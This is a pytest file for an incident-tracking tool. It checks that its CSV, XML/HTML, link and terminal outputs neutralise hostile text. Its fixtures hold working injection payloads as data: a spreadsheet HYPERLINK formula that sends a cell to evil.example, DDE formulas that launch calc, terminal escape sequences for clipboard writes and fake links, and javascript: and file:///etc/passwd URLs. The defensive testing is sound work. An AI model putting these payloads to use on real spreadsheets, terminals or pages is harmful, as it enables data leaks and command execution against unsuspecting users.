"""Injection: hostile text stays inert in every output (CSV, XML/HTML, terminal, links).

Hostile text reaches the store through the normal services where they accept it, and is
planted with SQL where a person could not type it today (control characters): a database
can still hold such text from an import or an older version, and outputs must cope.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import incident_kit as ik
from incident_kit import analytics
from incident_kit.safe_output import FORMULA_START, frame_csv, terminal_text, xml_text

REPO = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# OSC 8 hyperlink, OSC 0 window title, OSC 52 clipboard write, CSI clear screen, C1 CSI, BEL, NUL.
TERMINAL_ATTACKS = ["\x1b]8;;http://evil.example\x07Click me\x1b]8;;\x07", "\x1b]0;pwned\x07",
                    "\x1b]52;c;ZWNobyBwd25lZA==\x07", "\x1b[2J\x1b[H", "\x9b31m", "\x07\x00"]
CONTROL_TITLE = "Checkout down \x07\x1b[31m\x00 again\x0b\x0c"


def cli(env, *args, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run([env["PYTHON"], "-m", "incident_kit", *args], capture_output=True, env=env,
                            timeout=120)
    result.stdout, result.stderr = (result.stdout.decode("utf-8", "replace"),
                                    result.stderr.decode("utf-8", "replace"))
    if check:
        assert result.returncode == 0, result.stderr
    return result


@pytest.fixture
def env(subprocess_env, python):
    return {**subprocess_env, "PYTHON": python}


def plant(kit, table: str, column: str, value: str, where: str = "id = 1") -> None:
    """Store text the services would not take today (the test reaches the store on purpose)."""
    kit.db.write(lambda tx: tx.execute(f"UPDATE {table} SET {column} = ? WHERE {where}", [value]))


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in FORMULA_START]


# -- CSV --------------------------------------------------------------------------------
@pytest.fixture
def hostile_follow_ups(kit):
    kit.declare(FORMULAS[0], declared_by="ana")
    for i, text in enumerate(FORMULAS):
        kit.add_follow_up("INC-1", text, owner=FORMULAS[(i + 1) % len(FORMULAS)], description=text, by="ana")
    return kit


def test_follow_ups_csv_from_the_cli_neutralises_every_formula(hostile_follow_ups, env, db_path):
    hostile_follow_ups.close()
    text = cli(env, "--db", str(db_path), "follow-ups", "export", "--format", "csv").stdout
    assert formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["Title"] for r in rows} == {"'" + t.strip() for t in FORMULAS}  # shown as text, nothing lost


def test_follow_ups_csv_written_to_a_file_neutralises_every_formula(hostile_follow_ups, env, db_path, tmp_path):
    hostile_follow_ups.close()
    out = tmp_path / "follow-ups.csv"
    cli(env, "--db", str(db_path), "follow-ups", "export", "-o", str(out))
    assert formula_cells(out.read_text(encoding="utf-8")) == []


def test_follow_ups_csv_download_of_the_page_neutralises_every_formula(hostile_follow_ups):
    # the Follow-ups page offers exactly this text as its CSV download
    text = hostile_follow_ups.export_follow_ups(format="csv")
    assert formula_cells(text) == []
    assert len(list(csv.DictReader(io.StringIO(text)))) == len(FORMULAS)


def test_insights_downloads_neutralise_formulas_in_every_frame(kit):
    for i in range(2):  # a theme shows up once it recurs
        kit.declare(f"Incident {i}", declared_by="ana", tags=["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1-1"])
    data = analytics.insights(kit, analytics.make_filters(viewer=None))
    frames = {name: frame for name, frame in data.items() if hasattr(frame, "to_csv")}
    assert len(frames["themes"]) == 4
    for name, frame in frames.items():
        assert formula_cells(frame_csv(frame)) == [], name
    themes = list(csv.DictReader(io.StringIO(frame_csv(frames["themes"]))))
    assert sorted(r["theme"] for r in themes) == ["'+1+1", "'-1-1", "'=cmd|' /c calc'!a0", "'@sum(1)"]


def test_numbers_stay_numbers_in_a_download():
    import pandas as pd

    text = frame_csv(pd.DataFrame({"delta": [-5, 3], "share": [-0.25, 1.0], "label": ["-5", "ok"]}))
    assert text.splitlines() == ["delta,share,label", "-5,-0.25,'-5", "3,1.0,ok"]


def test_no_page_writes_a_csv_of_its_own():
    """Every CSV download goes through the one writer (safe_output.frame_csv or a Kit export)."""
    pages = [*(REPO / "incident_kit" / "ui").rglob("*.py"), REPO / "app.py"]
    offenders = [str(p.relative_to(REPO)) for p in pages if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()]
    assert offenders == []


def test_full_export_csv_neutralises_formulas_in_every_table(hostile_follow_ups, tmp_path):
    manifest = hostile_follow_ups.export(tmp_path / "out", format="csv")
    for info in manifest["tables"].values():
        assert formula_cells((tmp_path / "out" / info["file"]).read_text(encoding="utf-8")) == [], info["file"]


# -- XML and HTML ------------------------------------------------------------------------
@pytest.fixture
def control_chars_kit(kit):
    kit.declare("Payments failing", declared_by="ana")
    kit.post_update("INC-1", "Looking \x1b]0;x\x07 into it", by="ana", audience="external", impact="Some \x00 users")
    plant(kit, "incidents", "title", CONTROL_TITLE)
    plant(kit, "updates", "message", "Rolled \x07back\x1b[0m \x08\x7f done", where="incident_id = 1")
    return kit


def test_feed_stays_valid_xml_with_control_characters_in_titles_and_updates(control_chars_kit, tmp_path):
    control_chars_kit.build_status_page(tmp_path, base_url="https://status.example.com")
    feed = (tmp_path / "feed.xml").read_text(encoding="utf-8")
    root = ET.fromstring(feed)  # raises on any character XML forbids
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = [e.text for e in root.findall("a:entry/a:title", ns)]
    assert titles and all(t.startswith("Checkout down [31m again") for t in titles)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", (tmp_path / "index.html").read_text(encoding="utf-8"))


def test_status_page_through_the_cli_writes_valid_xml(control_chars_kit, env, db_path, tmp_path):
    control_chars_kit.close()
    cli(env, "--db", str(db_path), "status-page", "build", "--out", str(tmp_path / "site"))
    ET.parse(tmp_path / "site" / "feed.xml")


def test_review_html_has_no_character_xml_forbids(control_chars_kit):
    kit = control_chars_kit
    kit.resolve("INC-1", by="ana")
    kit.start_review("INC-1", depth="standard", by="ana")
    kit.edit_review_section("INC-1", "summary", "What \x07happened \x1b[1mbold\x00", by="ana")
    html = kit.export_review("INC-1", format="html")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", html)
    assert "Checkout down [31m again" in html and "What happened [1mbold" in html


def test_markup_stays_markup_and_text_stays_escaped_after_cleaning():
    from markupsafe import Markup, escape

    assert xml_text(Markup("<p>a\x07b</p>")) == Markup("<p>ab</p>") and isinstance(xml_text(Markup("x\x07")), Markup)
    assert str(escape(xml_text("<b>\x07"))) == "&lt;b&gt;"


# -- links ---------------------------------------------------------------------------------
@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
                                 "file:///etc/passwd", "//evil.example", "http://", "https://exa mple.com",
                                 "vbscript:msgbox(1)"])
def test_status_page_base_url_must_be_http_or_https(kit, env, db_path, tmp_path, url):
    kit.declare("Checkout down", declared_by="ana")
    kit.close()
    out = tmp_path / "site"
    result = cli(env, "--db", str(db_path), "status-page", "build", "--out", str(out), "--base-url", url, check=False)
    assert result.returncode == 1 and result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "must start with http:// or https://" in lines[0], result.stderr
    assert not (out / "feed.xml").exists()


def test_status_page_base_url_over_https_is_used(kit, tmp_path):
    kit.build_status_page(tmp_path, base_url="https://status.example.com/")
    assert 'href="https://status.example.com/feed.xml"' in (tmp_path / "feed.xml").read_text()


# -- terminal --------------------------------------------------------------------------------
@pytest.fixture
def terminal_kit(kit):
    kit.declare("Login broken", declared_by="ana", summary="See the dashboard")
    kit.add_follow_up("INC-1", "Add an alert", owner="bao", by="ana")
    plant(kit, "incidents", "title", "Login broken " + "".join(TERMINAL_ATTACKS))
    plant(kit, "incidents", "summary", "Summary \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ end")
    plant(kit, "follow_ups", "title", "Alert " + TERMINAL_ATTACKS[2])
    plant(kit, "updates", "message", "Declared \x1b[1A\x1b[2K overwritten", where="incident_id = 1")
    kit.close()
    return kit


def _assert_inert(text: str) -> None:
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), repr(text)


@pytest.mark.parametrize("args", [["list"], ["show", "INC-1"], ["follow-ups", "list"], ["needs-update"],
                                  ["follow-ups", "export"], ["review", "export", "INC-1"]])
def test_human_cli_output_carries_no_terminal_control_sequence(terminal_kit, env, db_path, args):
    if args[0] == "review":
        cli(env, "--db", str(db_path), "resolve", "INC-1")
        cli(env, "--db", str(db_path), "review", "start", "INC-1", "--depth", "standard")
    result = cli(env, "--db", str(db_path), *args)
    _assert_inert(result.stdout + result.stderr)
    if args[0] in ("list", "show"):
        assert "Login broken Click me" in result.stdout


def test_json_output_stays_valid_and_keeps_the_exact_text(terminal_kit, env, db_path):
    out = cli(env, "--db", str(db_path), "show", "INC-1", "--json").stdout
    _assert_inert(out)  # escaped as \u001b, \u009b: inert on a terminal
    assert json.loads(out)["title"] == "Login broken " + "".join(TERMINAL_ATTACKS)


def test_error_messages_quoting_what_was_typed_are_inert(terminal_kit, env, db_path):
    for args in (["show", "INC-\x1b]0;pwned\x07"], ["declare", "x", "--severity", "\x1b[2Jbig"],
                 ["list", "--limit", "\x1b[2J"]):
        result = cli(env, "--db", str(db_path), *args, check=False)
        assert result.returncode in (1, 2)
        _assert_inert(result.stderr)


def test_terminal_text_removes_sequences_and_keeps_the_words():
    assert terminal_text("a\x1b]8;;http://x\x07link\x1b]8;;\x07 b\x1b[31mred\x1b[0m \x9b2Jc\r\nnext\rover\tz") == \
        "alink bred c\nnextover\tz"


def test_an_unterminated_sequence_cannot_swallow_the_following_lines():
    assert terminal_text("Title \x1b]0;never ends\nThe next line stays") == "Title \nThe next line stays"
